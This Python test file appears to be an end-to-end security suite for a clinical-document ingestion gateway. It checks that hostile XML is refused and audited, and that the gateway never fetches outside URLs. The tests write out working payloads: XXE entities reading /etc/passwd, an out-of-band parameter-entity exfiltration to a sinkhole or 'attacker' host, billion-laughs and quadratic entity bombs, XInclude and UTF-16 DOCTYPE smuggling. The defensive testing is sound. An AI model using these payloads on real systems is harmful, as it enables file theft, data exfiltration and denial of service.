"""End-to-end: hostile and broken documents on POST /v1/documents.

Every case of docs/reference/security-research.md section (b) rows 1-16 is
sent over HTTPS (raw TLS connections, exact bytes).  After each rejection:
the documents table is unchanged, exactly one audit row was added (outcome 4
rejected, 8 security alert), a previously stored document still reads back
with the same SHA-256, and a fresh valid request on a new connection
succeeds.  URLs in hostile documents point at a local sinkhole listener that
must never see a connection."""

import hashlib
import os
import re
import sys
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cdxtest  # noqa: E402
from cdxtest import Conn, Gateway, Institution, problem_check  # noqa: E402

MAX_BODY = 2 << 20
PKI = None
GW = None
SINK = None
REF = None  # (id, bytes, sha256) of a document stored before the attacks

ALERT, REJECT = 8, 4


def setUpModule():
    global PKI, GW, SINK, REF
    PKI = cdxtest.shared_pki()
    certs = cdxtest.institution_certs(PKI, ["riverside"])
    GW = Gateway(PKI, name="ingest-bad", institutions=[
        Institution(cdxtest.E2E_OID, "e2e clinic", PKI.good, "submit, query"),
        Institution(cdxtest.DEMO_OIDS["riverside"], "riverside", certs["riverside"],
                    "submit, query"),
    ], settings={"max_body_bytes": MAX_BODY, "worker_threads": 2}).start()
    SINK = cdxtest.Sinkhole()
    body = cdxtest.minimal_cda(doc_ext="REF-%d" % os.getpid())
    with Conn.open(GW) as c:
        r = cdxtest.raw_post(c, body)
    if r is None or r.status != 201:
        raise AssertionError("could not store the reference document: %r\n%s"
                             % (r, GW.log()[-2000:]))
    REF = (r.json()["id"], body, hashlib.sha256(body).hexdigest())


def tearDownModule():
    if SINK is not None:
        SINK.stop()
    if GW is not None:
        GW.stop()


_n = [0]


def valid_doc(prefix="OK", **kw):
    _n[0] += 1
    return cdxtest.minimal_cda(doc_ext="%s-%d-%d" % (prefix, os.getpid(), _n[0]), **kw)


def with_doctype(doctype, title_ref=b""):
    """A valid document with a DOCTYPE after the XML declaration and
    optionally an entity reference in the title."""
    doc = valid_doc("DTD")
    doc = doc.replace(b"?>\n", b"?>\n" + doctype + b"\n", 1)
    if title_ref:
        doc = doc.replace(b"<title>e2e test document", b"<title>e2e test document " + title_ref,
                          1)
    return doc


def with_section_text(xml_text):
    body = (b'<component><structuredBody><component><section>'
            b'<code code="11450-4" codeSystem="2.16.840.1.113883.6.1"/><title>Problems</title>'
            b'<text>' + xml_text + b'</text></section></component></structuredBody></component>')
    return valid_doc("TXT", body=body)


class BadCase(unittest.TestCase):
    def setUp(self):
        if not GW.alive():
            self.fail("gateway is not running (exit %s); stderr:\n%s"
                      % (GW.proc.returncode, GW.log()[-4000:]))
        self.sink_before = len(SINK.connections)

    def tearDown(self):
        time.sleep(0.05)
        self.assertEqual(SINK.connections[self.sink_before:], [],
                         "the gateway connected to the sinkhole (an URL in the document was "
                         "fetched)")

    def counts(self):
        return {t: cdxtest.table_count(GW, t) for t in
                ("documents", "document_content", "document_patient_ids", "facts")}

    def post(self, body, ctype="application/xml", timeout=30.0):
        with Conn.open(GW, timeout=timeout) as c:
            t0 = time.monotonic()
            r = cdxtest.raw_post(c, body, content_type=ctype, timeout=timeout)
            return r, time.monotonic() - t0

    def reject(self, body, status, code, outcome=(REJECT, ALERT), ctype="application/xml",
               max_seconds=None, issues=None, what=""):
        """Sends body; asserts the problem, the audit row, nothing stored,
        the reference document intact and a fresh valid request served."""
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        r, secs = self.post(body, ctype)
        doc = problem_check(self, r, status, code)
        if max_seconds is not None:
            self.assertLess(secs, max_seconds, "%s: answered in %.3f s" % (what, secs))
        if issues or status == 422 or code == "XML_MALFORMED":
            self.assertIsInstance(doc.get("issues"), list, "%s: no issues array: %r" % (what, doc))
            self.assertTrue(doc["issues"], "%s: empty issues: %r" % (what, doc))
            for i in doc["issues"]:
                for k in ("severity", "rule", "location", "message"):
                    self.assertIn(k, i, "%s: issue without %r: %r" % (what, k, i))
        self.assertNotIn("root:x:0:0", r.body.decode("utf-8", "replace"),
                         "the answer discloses /etc/passwd")
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual(len(rows), 1, "%s: expected exactly one audit row, got %r" % (what, rows))
        _, event, oc, actor, _, _ = rows[0]
        if isinstance(outcome, int):
            self.assertEqual(oc, outcome, "%s: audit row %r" % (what, rows[0]))
        else:
            self.assertIn(oc, outcome, "%s: audit row %r" % (what, rows[0]))
        self.assertEqual(event, {0: "document.ingest", 4: "document.reject",
                                 8: "security.alert"}.get(oc), rows[0])
        self.assertEqual(actor, cdxtest.E2E_OID, rows[0])
        self.assertEqual(self.counts(), before, "%s: a rejected document changed the registry"
                         % what)
        self.assert_service_intact(what)
        return doc

    def assert_service_intact(self, what=""):
        with Conn.open(GW) as c:
            g = cdxtest.raw_get(c, "/v1/documents/" + REF[0])
            self.assertIsNotNone(g, "%s: no answer to GET of the reference document" % what)
            self.assertEqual(g.status, 200, "%s: GET reference: %r" % (what, g))
            self.assertEqual(hashlib.sha256(g.body).hexdigest(), REF[2], what)
            self.assertEqual(g.header("etag"), '"%s"' % REF[2])
        with Conn.open(GW) as c:
            p = cdxtest.raw_post(c, valid_doc("AFTER"))
            self.assertIsNotNone(p, "%s: no answer to a valid POST afterwards" % what)
            self.assertEqual(p.status, 201, "%s: valid POST afterwards: %r" % (what, p))


class TestDtd(BadCase):
    """Rows 1-5: any DOCTYPE is refused before anything is loaded."""

    def test_row01_xxe_internal_subset(self):
        doc = with_doctype(b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                           b"&x;")
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 1 XXE")

    def test_row01_xxe_general_entities(self):
        for dt in (b'<!DOCTYPE ClinicalDocument [<!ENTITY x "harmless">]>',
                   b'<!DOCTYPE ClinicalDocument>',
                   b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "' + SINK.url("/e").encode()
                   + b'">]>'):
            with self.subTest(doctype=dt):
                self.reject(with_doctype(dt, b"&x;" if b"ENTITY" in dt else b""), 400,
                            "XML_DTD_FORBIDDEN", ALERT, what="row 1 %r" % dt)

    def test_row02_external_dtd_no_fetch(self):
        for dt in (b'<!DOCTYPE ClinicalDocument SYSTEM "' + SINK.url("/x.dtd").encode() + b'">',
                   b'<!DOCTYPE ClinicalDocument PUBLIC "-//e2e//x" "' + SINK.url("/p.dtd").encode()
                   + b'">',
                   b'<!DOCTYPE ClinicalDocument SYSTEM "http://attacker/x.dtd">'):
            with self.subTest(doctype=dt):
                self.reject(with_doctype(dt), 400, "XML_DTD_FORBIDDEN", ALERT,
                            what="row 2 external DTD")
        time.sleep(0.3)
        self.assertEqual(SINK.connections, [], "the gateway fetched the external DTD")

    def test_row03_parameter_entity_oob(self):
        dt = (b'<!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM "' + SINK.url("/p.dtd").encode()
              + b'"> %p;]>')
        self.reject(with_doctype(dt), 400, "XML_DTD_FORBIDDEN", ALERT, what="row 3")
        dt2 = (b'<!DOCTYPE ClinicalDocument [<!ENTITY % file SYSTEM "file:///etc/passwd">'
               b'<!ENTITY % eval "<!ENTITY &#x25; exf SYSTEM \'' + SINK.url("/?%file;").encode()
               + b'\'>"> %eval; %exf;]>')
        self.reject(with_doctype(dt2), 400, "XML_DTD_FORBIDDEN", ALERT, what="row 3 OOB")

    def test_row04_billion_laughs(self):
        ents = [b'<!ENTITY lol0 "lol">']
        for i in range(1, 11):
            ents.append(b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%d;" % (i - 1)] * 10)))
        dt = b"<!DOCTYPE ClinicalDocument [" + b"".join(ents) + b"]>"
        doc = with_doctype(dt, b"&lol10;")
        rss0 = cdxtest.proc_rss_kb(GW.proc.pid)
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, max_seconds=1.0, what="row 4")
        rss1 = cdxtest.proc_rss_kb(GW.proc.pid)
        if rss0 is not None and rss1 is not None:
            self.assertLess(rss1 - rss0, 10 * 1024, "RSS grew from %d kB to %d kB" % (rss0, rss1))

    def test_row05_quadratic_blowup(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY a "' + b"A" * 50000 + b'">]>'
        doc = with_doctype(dt, b"&a;" * 10000)
        rss0 = cdxtest.proc_rss_kb(GW.proc.pid)
        self.reject(doc, 400, "XML_DTD_FORBIDDEN", ALERT, max_seconds=2.0, what="row 5")
        rss1 = cdxtest.proc_rss_kb(GW.proc.pid)
        if rss0 is not None and rss1 is not None:
            self.assertLess(rss1 - rss0, 20 * 1024, "RSS grew from %d kB to %d kB" % (rss0, rss1))


class TestLimits(BadCase):
    """Rows 6-8: depth, size and parser limits."""

    def test_row06_300_deep(self):
        doc = with_section_text(b"<content>" * 300 + b"x" + b"</content>" * 300)
        self.reject(doc, 400, "XML_TOO_DEEP", max_seconds=2.0, what="row 6")

    def test_row06_control_200_deep_is_parsed(self):
        # Below libxml2's limit: well-formed, so not an XML_TOO_DEEP.
        doc = with_section_text(b"<content>" * 200 + b"x" + b"</content>" * 200)
        r, _ = self.post(doc)
        self.assertIsNotNone(r)
        self.assertNotEqual(r.status, 400, r)

    def test_row07_body_limit_plus_one(self):
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        c = Conn.open(GW)
        self.addCleanup(c.close)
        t0 = time.monotonic()
        c.send(b"POST /v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml"
               b"\r\nContent-Length: %d\r\n\r\n" % (MAX_BODY + 1))
        # A single text node of body-limit + 1 bytes; only its start is sent:
        # the 413 must come without the body.
        try:
            c.send(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><title>" + b"A" * 4096)
        except OSError:
            pass
        r = c.read_response(timeout=3.0)
        self.assertLess(time.monotonic() - t0, 3.0)
        problem_check(self, r, 413, "BODY_TOO_LARGE")
        self.assertTrue(c.wait_closed(3.0), "connection still open after 413")
        self.assertEqual(self.counts(), before)
        # Section (b) conventions: every rejection writes one audit row, this
        # one too (the institution is known from the handshake; recording the
        # refusal needs no body).
        deadline = time.monotonic() + 1.0
        rows = cdxtest.audit_since(GW, seq0)
        while not rows and time.monotonic() < deadline:
            time.sleep(0.05)
            rows = cdxtest.audit_since(GW, seq0)
        self.assert_service_intact("row 7")
        self.assertEqual(len(rows), 1, "row 7: expected one audit row for the 413 rejection, "
                         "got %r" % (rows,))
        self.assertIn(rows[0][2], (REJECT, ALERT), rows)

    def test_row07_full_oversized_body(self):
        body = (b"<ClinicalDocument xmlns='urn:hl7-org:v3'><title>"
                + b"A" * (MAX_BODY + 1 - 64))
        body += b"B" * (MAX_BODY + 1 - len(body))
        self.assertEqual(len(body), MAX_BODY + 1)
        c = Conn.open(GW)
        self.addCleanup(c.close)
        c.send(b"POST /v1/documents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml"
               b"\r\nContent-Length: %d\r\n\r\n" % len(body))
        try:
            c.send(body)
        except OSError:
            pass  # the gateway may close while we still send
        r = c.read_response(timeout=5.0)
        problem_check(self, r, 413, "BODY_TOO_LARGE")
        self.assert_service_intact("row 7 full")

    def test_row08_100000_attributes(self):
        attrs = b" ".join(b'a%d="1"' % i for i in range(100000))
        doc = with_section_text(b"<content " + attrs + b">x</content>")
        self.assertLess(len(doc), MAX_BODY)
        self.reject(doc, 400, "XML_LIMIT", max_seconds=3.0, what="row 8 attributes")

    def test_row08_60000_char_element_name(self):
        doc = with_section_text(b"<" + b"n" * 60000 + b">x</" + b"n" * 60000 + b">")
        self.reject(doc, 400, "XML_LIMIT", max_seconds=3.0, what="row 8 name")

    def test_row08_1mb_attribute_value(self):
        """Row 8 allows 400 XML_LIMIT or 413; libxml2's own value limit is
        10 MB, so a 1 MB value in an otherwise valid document may also be
        stored as data.  What matters: bounded time, an answer, no crash,
        and nothing stored on rejection."""
        doc = with_section_text(b'<content ID="' + b"v" * (1 << 20) + b'">x</content>')
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        r, secs = self.post(doc)
        self.assertIsNotNone(r, "no answer")
        self.assertLess(secs, 3.0)
        self.assertEqual(len(cdxtest.audit_since(GW, seq0)), 1)
        if r.status == 201:
            self.assertEqual(self.counts()["documents"], before["documents"] + 1)
        else:
            problem_check(self, r, r.status, {"XML_LIMIT", "BODY_TOO_LARGE"})
            self.assertEqual(self.counts(), before)
        self.assert_service_intact("row 8 value")


class TestContent(BadCase):
    """Rows 9-16 and the other parser verdicts."""

    def test_row09_xinclude_not_expanded(self):
        doc = with_section_text(
            b'<content xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></content>')
        d = self.reject(doc, 422, "CDA_SCHEMA_INVALID", what="row 9")
        self.assertTrue(any(i.get("location") for i in d["issues"]), d)
        doc2 = with_section_text(
            b'<content xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="' + SINK.url("/inc").encode() + b'"/></content>')
        self.reject(doc2, 422, "CDA_SCHEMA_INVALID", what="row 9 http")

    def test_row10_schema_location_ignored(self):
        doc = valid_doc("XSI", root_attrs=(
            b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:schemaLocation="urn:hl7-org:v3 ' + SINK.url("/evil.xsd").encode() + b'"'))
        seq0 = cdxtest.audit_max_seq(GW)
        r, _ = self.post(doc)
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual([(e, o) for _, e, o, *_ in rows], [("document.ingest", 0)], rows)
        time.sleep(0.2)
        self.assertEqual(SINK.connections, [], "the schemaLocation URL was fetched")

    def test_row11_processing_instructions_kept_never_applied(self):
        pis = (b'<?xml-stylesheet type="text/xsl" href="' + SINK.url("/x.xsl").encode() + b'"?>\n'
               b'<?cdx-e2e some data?>\n')
        doc = valid_doc("PI")
        doc = doc.replace(b"?>\n", b"?>\n" + pis, 1)
        r, _ = self.post(doc)
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)
        receipt = r.json()
        rules = [w.get("rule") for w in receipt.get("warnings", [])]
        self.assertIn("XML-PI", rules, receipt)
        with Conn.open(GW) as c:
            g = cdxtest.raw_get(c, "/v1/documents/" + receipt["id"])
            self.assertEqual(g.status, 200, g)
            self.assertEqual(g.body, doc, "the original bytes (with the PIs) were not kept")
            n = cdxtest.raw_get(c, "/v1/documents/" + receipt["id"] + "?form=normalized")
            self.assertEqual(n.status, 200, n)
            self.assertIn(b"ClinicalDocument", n.body, "the stylesheet was applied?")
        time.sleep(0.2)
        self.assertEqual(SINK.connections, [], "the stylesheet URL was fetched")

    def test_row12_malformed(self):
        cases = {
            "unclosed tag": valid_doc("M1").replace(b"<title>e2e test document</title>",
                                                    b"<title>e2e test document"),
            "NUL byte": valid_doc("M2").replace(b"e2e test document", b"e2e\x00test"),
            "invalid UTF-8": valid_doc("M3").replace(b"e2e test document", b"e2e \xc3\x28 test"),
            "lone surrogate": valid_doc("M4").replace(b"e2e test document", b"e2e &#xD800; test"),
            "BOM + encoding UTF-16": b"\xef\xbb\xbf" + valid_doc("M5").replace(
                b'encoding="UTF-8"', b'encoding="UTF-16"'),
            "garbage after root": valid_doc("M6") + b"<second/>",
        }
        for name, doc in cases.items():
            with self.subTest(case=name):
                d = self.reject(doc, 400, "XML_MALFORMED", REJECT, what="row 12 " + name)
                locs = [i.get("location") or "" for i in d["issues"]]
                self.assertTrue(any(re.fullmatch(r"\d+:\d+", loc) for loc in locs),
                                "row 12 %s: no line:column location in %r" % (name, d["issues"]))

    def test_row12_location_line(self):
        doc = b'<?xml version="1.0"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">\n<a>\n</b>\n'
        d = self.reject(doc, 400, "XML_MALFORMED", REJECT, what="row 12 line")
        locs = [i.get("location") or "" for i in d["issues"]]
        self.assertTrue(any(loc.startswith("4:") for loc in locs),
                        "the mismatched end tag is on line 4: %r" % d["issues"])

    def test_row13_utf16_hiding_doctype(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        plain = with_doctype(dt, b"&x;").replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
        text = plain.decode("utf-8")
        self.assertNotIn(b"DOCTYPE", text.encode("utf-16-le"))
        for name, data in (("UTF-16LE BOM", b"\xff\xfe" + text.encode("utf-16-le")),
                           ("UTF-16BE BOM", b"\xfe\xff" + text.encode("utf-16-be")),
                           ("UTF-16LE no BOM", text.encode("utf-16-le"))):
            with self.subTest(encoding=name):
                self.reject(data, 400, "XML_DTD_FORBIDDEN", ALERT, what="row 13 " + name)

    def test_row13_utf32_hiding_doctype(self):
        dt = b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        text = with_doctype(dt, b"&x;").replace(b'encoding="UTF-8"',
                                                 b'encoding="UTF-32"').decode("utf-8")
        for name, data in (("UTF-32LE BOM", b"\xff\xfe\x00\x00" + text.encode("utf-32-le")),
                           ("UTF-32BE BOM", b"\x00\x00\xfe\xff" + text.encode("utf-32-be"))):
            with self.subTest(encoding=name):
                self.reject(data, 400, {"XML_DTD_FORBIDDEN", "XML_ENCODING"},
                            what="row 13 " + name)

    def test_row13_control_utf16_document_accepted(self):
        text = valid_doc("U16").replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode()
        r, _ = self.post(b"\xff\xfe" + text.encode("utf-16-le"))
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 201, r)

    def test_row13_unsupported_encodings(self):
        for enc in (b"EBCDIC", b"x-no-such-encoding", b"UTF-7-e2e"):
            with self.subTest(encoding=enc):
                doc = valid_doc("ENC").replace(b'encoding="UTF-8"', b'encoding="' + enc + b'"')
                self.reject(doc, 400, "XML_ENCODING", REJECT, what="row 13 %s" % enc)

    def test_row14_wrong_root_or_namespace(self):
        base = valid_doc("NS")
        cases = {
            "no namespace": base.replace(b' xmlns="urn:hl7-org:v3"', b"", 1),
            "other namespace": base.replace(b'xmlns="urn:hl7-org:v3"', b'xmlns="urn:hl7-org:v2"',
                                            1),
            "other root": base.replace(b"<ClinicalDocument ", b"<Document ", 1).replace(
                b"</ClinicalDocument>", b"</Document>"),
            "prefixed wrong ns": b'<?xml version="1.0"?>\n<x:ClinicalDocument xmlns:x="urn:e2e">'
                                 b'<x:id root="2.25.1"/></x:ClinicalDocument>',
            "html": b"<html><body>hi</body></html>",
        }
        for name, doc in cases.items():
            with self.subTest(case=name):
                self.reject(doc, 422, "CDA_SCHEMA_INVALID", REJECT, what="row 14 " + name)

    def test_row15_required_fields(self):
        pid = b'<id root="2.25.1001.1" extension="P-0001"/>'
        cases = {
            "id without root": valid_doc("R1", id_tag=b'<id extension="X-1"/>'),
            "id root not an OID": valid_doc("R2", id_tag=b'<id root="not-an-oid" extension="X"/>'),
            "id root 1.2.abc": valid_doc("R3", id_tag=b'<id root="1.2.abc" extension="X"/>'),
            "no id": valid_doc("R4", id_tag=b""),
            "no patient id": valid_doc("R5").replace(pid, b""),
            "patient id nullFlavor": valid_doc("R6").replace(pid, b'<id nullFlavor="UNK"/>'),
            "bad effectiveTime": valid_doc("R7", effective_time=b"2024-01-05"),
            "no effectiveTime": valid_doc("R8").replace(
                b'<effectiveTime value="20240105093000+0900"/>', b""),
        }
        self.assertNotIn(pid, cases["no patient id"])
        self.assertIn(b"<recordTarget>", cases["no patient id"])
        for name, doc in cases.items():
            with self.subTest(case=name):
                d = self.reject(doc, 422, "CDA_REQUIRED_FIELD", REJECT, what="row 15 " + name)
                self.assertTrue(any(i.get("location") for i in d["issues"]),
                                "row 15 %s: no issue names a location: %r" % (name, d))

    def test_row16_custodian_not_the_client_institution(self):
        doc = valid_doc("IDM", custodian_oid=cdxtest.DEMO_OIDS["riverside"],
                        doc_root=cdxtest.DEMO_OIDS["riverside"] + ".2",
                        patient_root="2.25.1001.1")
        d = self.reject(doc, 403, "IDENTITY_MISMATCH", ALERT, what="row 16")
        self.assertIsInstance(d.get("issues"), list, d)
        # Control: the same bytes from riverside's own certificate are stored.
        r = cdxtest.post_document(GW, doc, PKI._inst_certs["riverside"])
        self.assertEqual(r.status, 201, r)

    def test_xml_empty(self):
        for body in (b"", b"   \n  "):
            with self.subTest(body=body):
                self.reject(body, 400, "XML_EMPTY", REJECT, what="empty %r" % body)


class TestZzGatewayHealthy(unittest.TestCase):
    """Runs last: the gateway survived everything above without a sanitizer
    report or an error-level crash line."""

    def test_gateway_alive_and_clean(self):
        self.assertTrue(GW.alive(), "gateway exited with %s; stderr:\n%s"
                        % (GW.proc.returncode, GW.log()[-4000:]))
        self.assertIsNone(cdxtest.sanitizer_report(GW.log()), GW.log()[-5000:])


if __name__ == "__main__":
    cdxtest.main()
